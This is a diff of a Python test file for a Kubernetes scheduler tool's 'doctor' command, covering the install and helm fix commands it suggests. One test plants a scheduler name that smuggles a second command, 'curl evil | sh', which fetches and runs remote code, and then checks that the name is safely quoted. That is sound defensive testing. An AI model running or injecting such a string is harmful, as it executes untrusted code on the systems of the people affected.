@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from functools import partial
@@ -13,7 +14,7 @@ import pytest
 from msgspec.structs import replace
 
 from kubekit.objects.core import Lease, LeaseSpec, Node, Pod
-from kubekit.objects.kinds import LEASES
+from kubekit.objects.kinds import DEPLOYMENTS, LEASES
 from kubekit.objects.meta import ObjectMeta
 from kubekit.rights import MissingRight, Rule, expand
 from muster.cli import main
@@ -21,8 +22,9 @@ from muster.cli.verbs.doctor import print_findings
 from muster.contract.scheduler_rights import NAMES, name_lease
 from muster.contract.unserved_fields import Unserved
 from muster.contract.waiting_line_format import DATA_KEY, WaitingGang
-from muster.install.doctor.checks import Finding, install_again, judge, scheduler_names
+from muster.install.doctor.checks import Finding, judge, scheduler_names
 from muster.install.doctor.facts import BrokenRole, Component, Facts
+from muster.install.doctor.fixes import install_again
 from muster.install.doctor.rights import recognised
 from muster.jobs.view.events import Event
 from tests.controlplane.control_plane import ControlPlane
@@ -52,8 +54,6 @@ def cluster(control_plane_binaries: Path) -> Iterator[ControlPlane]:
 
 
 LIST_PODS = Rule(("",), ("pods",), ("list",))
-VALUES = "   # and with your --values, if you have a file"
-NAME_FLAGS = [f"--scheduler-name={name}" for name in NAMES]
 
 
 def exists(plane: ControlPlane, namespace: str) -> bool:
@@ -100,6 +100,40 @@ def test_nothing_is_wrong_after_all_faults_are_mended(
         return code == 0 and all(row.level == "ok" for row in findings)
 
     until(healthy, what="a cluster without faults")
+
+
+@pytest.mark.kube
+@pytest.mark.slow
+def test_the_fix_for_a_name_that_nobody_answers_to_leaves_everything_else_as_it_is(
+    cluster: ControlPlane, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def problem() -> Finding | None:
+        _, findings = doctor(cluster.kubeconfig, capsys)
+        wrong = [row for row in findings if row.check == "scheduler names" and row.level != "ok"]
+        return wrong[0] if wrong else None
+
+    def arguments() -> list[list[str]]:
+        rows = [
+            cluster.request("GET", DEPLOYMENTS.path("muster", f"muster-{name}"))[1]
+            for name in ("operator", "scheduler")
+        ]
+        return [row["spec"]["template"]["spec"]["containers"][0]["args"] for row in rows]
+
+    before = arguments()
+    with FAULTS["a scheduler name that nobody answers to"].plant(cluster):
+        found = until(problem, what="the name that nobody answers to")
+        words = shlex.split(found.fix)[1:]
+        config = ("--kubeconfig", str(cluster.kubeconfig), "--yes", "--no-wait")
+        assert main.run("muster", [*words, *config]) == 0
+        operator, scheduler = arguments()
+
+        assert problem() is None
+        assert operator == before[0]
+        assert scheduler == [*before[1], "--scheduler-name=nobody"]
+
+    back = [f"--scheduler-name={name}" for name in NAMES]
+    assert main.run("muster", ["install", *back, *config]) == 0
+    assert arguments() == before
 
 
 @pytest.mark.kube
@@ -251,7 +285,7 @@ def test_a_binding_that_is_gone_is_one_finding_and_other_missing_rights_stay() -
 
     assert found[0] == (
         "muster-operator lacks rights: the ClusterRoleBinding x does not exist",
-        f"muster install --image i --namespace team --operator-only{VALUES}",
+        "muster install --namespace team",
     )
     assert [text for text, _ in found[1:]] == ["muster-operator may not create events"]
 
@@ -259,29 +293,103 @@ def test_a_binding_that_is_gone_is_one_finding_and_other_missing_rights_stay() -
 HELM = {"app.kubernetes.io/managed-by": "Helm"}
 
 
+def component(name: str, *args: str, namespace: str = "muster", helm: bool = False) -> Component:
+    pod = {"containers": [{"name": name, "image": "i", "args": [name, *args]}]}
+    annotations = {"meta.helm.sh/release-name": "train"}
+    labels = {"app.kubernetes.io/managed-by": "Helm"} if helm else {}
+    metadata = {"name": f"muster-{name}", "namespace": namespace, "annotations": annotations}
+    deployment = {"metadata": {**metadata, "labels": labels}, "spec": {"template": {"spec": pod}}}
+    return Component(name, deployment, [])
+
+
+def test_an_installation_is_made_again_with_the_values_that_it_has() -> None:
+    own, helms = (component("scheduler", namespace="team", helm=helm) for helm in (False, True))
+
+    assert install_again(own) == "muster install --namespace team"
+    assert install_again(helms) == (
+        "helm upgrade train deploy/chart --namespace team --reuse-values"
+    )
+
+
+OPERATOR = component("operator", "--gang-scheduler-name=volcano")
+OPERATOR_OF_A_TEAM = component("operator", "--namespace=team", namespace="team")
+MUSTER, BATCHD, BATCH = NAME_FLAGS = [f"--scheduler-name {name}" for name in NAMES]
+
+
 @pytest.mark.parametrize(
-    ("args", "labels", "fix"),
+    ("components", "given", "fix"),
     [
-        ([], {}, f"muster install --image i --namespace team --scheduler-only{VALUES}"),
         (
-            ["--scheduler-name=volcano"],
+            [OPERATOR, component("scheduler", "--scheduler-name=muster")],
             {},
-            "muster install --image i --namespace team --scheduler-only --scheduler-name volcano"
-            + VALUES,
+            f"muster install {MUSTER} --scheduler-name volcano",
         ),
-        ([], HELM, "helm upgrade train deploy/chart --namespace team --reuse-values"),
+        (
+            [component("scheduler", "--scheduler-name=muster", namespace="ml", helm=True)],
+            {},
+            "helm upgrade train deploy/chart --namespace ml --reuse-values "
+            "--set scheduler.enabled=true --set 'scheduler.names={muster,volcano}'",
+        ),
+        ([OPERATOR], {}, f"muster install {' '.join(NAME_FLAGS)} --scheduler-name volcano"),
+        (
+            [OPERATOR_OF_A_TEAM],
+            {},
+            "muster install --image IMAGE --scheduler-only "
+            f"{' '.join(NAME_FLAGS)} --scheduler-name volcano",
+        ),
+        (
+            [],
+            {},
+            f"muster install --image IMAGE {' '.join(NAME_FLAGS)} --scheduler-name volcano",
+        ),
+        ([], {"local": True}, "create the pods again, with schedulerName: muster"),
     ],
 )
-def test_the_fix_repeats_the_installation(
-    args: list[str], labels: dict[str, str], fix: str
+def test_the_fix_for_a_name_that_nobody_answers_to_keeps_all_other_names(
+    components: list[Component], given: dict[str, bool], fix: str
 ) -> None:
-    pod = {"containers": [{"name": "s", "image": "i", "args": args or NAME_FLAGS}]}
-    annotations = {"meta.helm.sh/release-name": "train"}
-    metadata = {"name": "muster-scheduler", "namespace": "team", "annotations": annotations}
-    deployment = {"metadata": {**metadata, "labels": labels}, "spec": {"template": {"spec": pod}}}
-    component = Component("scheduler", deployment, [])
+    spec = {"schedulerName": "volcano", "containers": [{"name": "c"}]}
+    waiting = msgspec.convert({"metadata": {"name": "p", "namespace": "d"}, "spec": spec}, Pod)
+    known = facts(**{"local": False, "pending": [waiting], "components": components, **given})
 
-    assert install_again(facts(components=[component]), component) == fix
+    (found,) = [row for row in scheduler_names(known) if row.level == "error"]
+
+    assert found.fix == fix
+
+
+def test_the_name_in_a_pod_of_a_tenant_is_quoted_in_a_command() -> None:
+    spec = {"schedulerName": "x; curl evil | sh", "containers": [{"name": "c"}]}
+    waiting = msgspec.convert({"metadata": {"name": "p", "namespace": "d"}, "spec": spec}, Pod)
+    known = facts(pending=[waiting], local=False, components=[component("scheduler")])
+
+    (found,) = [row for row in scheduler_names(known) if row.level == "error"]
+
+    assert found.fix.endswith("--scheduler-name 'x; curl evil | sh'")
+
+
+@pytest.mark.parametrize(
+    ("components", "text", "fix"),
+    [
+        ([component("scheduler")], "muster-operator is not", "muster install --operator"),
+        ([], "muster-operator is not", "muster install --image IMAGE"),
+        (
+            [component("operator")],
+            "muster-scheduler is not",
+            f"muster install {' '.join(NAME_FLAGS)}",
+        ),
+        (
+            [OPERATOR_OF_A_TEAM],
+            "muster-scheduler is not",
+            "muster install --image IMAGE --scheduler-only",
+        ),
+    ],
+)
+def test_a_component_that_is_missing_is_added_to_those_that_are_there(
+    components: list[Component], text: str, fix: str
+) -> None:
+    found = judge(facts(local=False, components=components))
+
+    assert [row.fix for row in found if text in row.text] == [fix]
 
 
 def test_what_may_not_be_read_is_not_reported_as_right(capsys: pytest.CaptureFixture[str]) -> None:
